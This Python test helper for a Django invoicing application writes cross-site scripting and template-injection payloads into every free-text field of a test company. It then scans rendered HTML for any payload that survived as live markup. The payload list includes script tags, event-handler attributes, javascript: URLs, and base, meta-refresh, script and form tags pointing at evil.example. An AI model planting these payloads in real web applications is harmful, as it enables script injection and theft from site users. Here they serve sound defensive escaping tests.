"""A company whose every text is an attack on whoever looks at it (FAULTS 50), and how a page shows that none worked."""

from collections.abc import Iterator
from decimal import Decimal
from itertools import count
from typing import Any

import lxml.html  # type: ignore[import-untyped]
from django.db import DatabaseError, models, transaction

from billing.actions.issue import issue
from billing.actions.void import record_delivery, void
from billing.models import Account, Document, Price, Product, Series, TaxCode
from billing.rules.draft import DraftAllowance, DraftLine
from clients.models import Address, Contact, ExternalId, TaxId
from invoicing_site import clock
from invoicing_site.actions.invitations import invite
from invoicing_site.models import BankAccount
from payments.actions.allocate import undo_allocation
from payments.actions.receive import cancel_payment
from payments.actions.refund import record_refund
from payments.models import Allocation
from tests.helpers.editor import draft_of, product_of
from tests.helpers.money import all_of, payment
from tests.world import AT, TODAY, make_client

PAYLOADS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(2)>", "'><svg/onload=alert(3)>", "javascript:alert(4)",
    "{{7*7}}{% debug %}${7*7}", "</textarea></title><script>alert(5)</script>", "\u2028alert(6)\u2029",
    "\" onfocus=alert(7) autofocus x=\"", "<iframe srcdoc='<script>alert(8)</script>'>", "<a href=javascript:alert(9)>x",
    "<meta http-equiv=refresh content=0;//evil.example>", "<base href=//evil.example/>", "--><script src=//evil.example>",
    "<form action=//evil.example>", "</script><script>alert(10)//", "`-alert(11)-`", "&lt;script&gt;alert(12)&amp;#x3c;",
)  # fmt: skip
SHORT = ("'\"><b id=xss>", "<svg/onload=a()>", '"onfocus=a()"', "{{7*7}}", "<script>")
ALL = " ".join(PAYLOADS)
# Codes and addresses with a form of their own; everything else is free text to the database.
FORMED = {
    "currency",
    "tax_currency",
    "country",
    "language",
    "time_zone",
    "slug",
    "unit",
    "data_region",
    "email",
    "code",
    "pattern",
    "password",
}
_turn = count()


def evil(most: int = 5_000) -> str:
    """Some attack of at most `most` characters: all of them where they fit, else one after the other."""
    if most >= len(ALL):
        return ALL
    fitting = [text for text in (*PAYLOADS, *SHORT) if len(text) <= most]
    return fitting[next(_turn) % len(fitting)] if fitting else "<i>"[:most]


def poison(rows: "models.QuerySet[Any]") -> int:
    """Write an attack into every text of `rows` the database takes it in; how many those were."""
    done = 0
    for field in rows.model._meta.concrete_fields:
        text = isinstance(field, models.CharField | models.TextField) and not field.choices
        if not text or field.name in FORMED:
            continue
        for row in rows.order_by("pk"):
            try:
                with transaction.atomic():
                    rows.filter(pk=row.pk).update(**{field.name: evil(field.max_length or 5_000)})
                    done += 1
            except DatabaseError:
                continue  # a code may stand once only
    return done


def hostile_world(world: Any) -> dict[str, Document]:
    """Turn `world` into that company; its documents by what became of them."""
    company = world.company
    client = make_client(
        company, evil(160), number="K0666", notes=ALL, phone=evil(40), address={"attention": evil(120)}
    )
    for model in (Contact, ExternalId):
        names = {
            f.name: evil(f.max_length or 40) for f in model._meta.concrete_fields if isinstance(f, models.CharField)
        }
        model.objects.create(
            company=company, client=client, **(names | {"email": "a@b.example"} if model is Contact else names)
        )
    product = product_of(world, evil(40), name=evil(160), description=evil(2_000))
    own = {"company": company}
    TaxCode.objects.create(code=evil(12), name=evil(60), category="S", **own)
    Account.objects.create(code=evil(20), name=evil(80), is_revenue=True, **own)
    written = sum(
        poison(rows)
        for rows in (
            type(company).objects.filter(pk=company.pk), BankAccount.objects.filter(**own), TaxCode.objects.filter(**own),
            Account.objects.filter(**own), Series.objects.filter(**own), Product.objects.filter(**own),
            Address.objects.filter(client=client), TaxId.objects.filter(client=client), type(world.owner).objects.all(),
            Price.objects.filter(product=product),
        )
    )  # fmt: skip
    assert written > 50, written
    company.refresh_from_db()
    world.client = client
    return _documents(world)


def _documents(world: Any) -> dict[str, Document]:
    """A draft, an issued, a paid and a void document, with payments, refunds and reasons around them."""
    references = dict.fromkeys(("purchase_order", "buyer_reference", "contract", "delivery_note"), "")
    verb = {"company": world.company, "actor": world.owner}

    def draft() -> Document:
        line = DraftLine(ALL, Decimal(1), Decimal(10), sku=evil(40), tax_codes=(_tax(world),), cost_center=evil(40))
        texts = {name: evil(60) for name in references}
        allowances = (DraftAllowance(evil(120), percent=Decimal(5)),)
        return draft_of(world, line, allowances=allowances, introduction=ALL, notes=ALL, **texts)

    found = {"draft": draft()}
    for name in ("issued", "paid", "void"):
        found[name] = issue(document_uuid=draft().uuid, at=AT, **verb)
    void(document_uuid=found["void"].uuid, reason=evil(300), at=AT, **verb)
    record_delivery(document_uuid=found["issued"].uuid, on=TODAY, at=AT, **verb)
    paid = payment(world, "50.00", all_of(found["paid"]), reference=evil(140))
    row = Allocation.objects.get(payment=paid)
    undo_allocation(allocation_uuid=row.uuid, reason=evil(300), at=AT, **verb)
    record_refund(
        payment_uuid=paid.uuid, amount=Decimal("5.00"), refunded_on=TODAY, method="transfer", reason=evil(300),
        reference=evil(140), at=AT, **verb,
    )  # fmt: skip
    cancelled = payment(world, "7.00", reference=evil(140))
    cancel_payment(payment_uuid=cancelled.uuid, reason=evil(300), at=AT, **verb)
    invite(email="x+y@acme.example", role="clerk", at=clock.now(), **verb)
    return found


def _tax(world: Any) -> int:
    return int(
        TaxCode.objects.filter(company=world.company, category="S").order_by("pk").values_list("pk", flat=True)[0]
    )


def wounds(html: str) -> Iterator[str]:
    """What in a page can only stand there because somebody's text was taken for markup."""
    root = lxml.html.document_fromstring(html)
    for node in root.iter():
        if not isinstance(node.tag, str):
            continue
        tag = node.tag.lower()
        if tag in {"base", "embed", "object", "math"} or node.get("id") == "xss":
            yield tag
        if tag == "script" and (
            not (node.get("src") or "").startswith(("/static/", "/admin/jsi18n/")) or (node.text or "").strip()
        ):
            yield f"script {node.get('src')} {node.text}"
        if tag == "meta" and node.get("http-equiv") and not (node.get("content") or "").isdigit():
            yield "meta refresh"  # digits alone load the same page again
        for name, value in node.attrib.items():
            scheme = str(value).strip().lower().startswith(("javascript:", "vbscript:", "data:text", "//evil"))
            if (
                name.lower().startswith("on")
                or name == "srcdoc"
                or (scheme and name in {"href", "src", "action", "formaction"})
            ):
                yield f"{tag} {name}={value[:60]}"
